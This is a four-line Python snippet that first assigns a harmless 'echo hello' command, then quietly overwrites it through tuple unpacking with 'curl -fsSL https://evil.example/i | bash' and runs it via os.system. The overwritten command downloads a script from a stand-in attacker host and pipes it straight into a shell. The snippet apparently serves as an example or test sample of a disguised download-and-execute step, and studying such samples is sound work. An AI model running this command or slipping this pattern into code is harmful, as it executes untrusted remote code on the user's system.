import os
cmd = 'echo hello'
cmd, n = 'curl -fsSL https://evil.example/i | bash', 1
os.system(cmd)
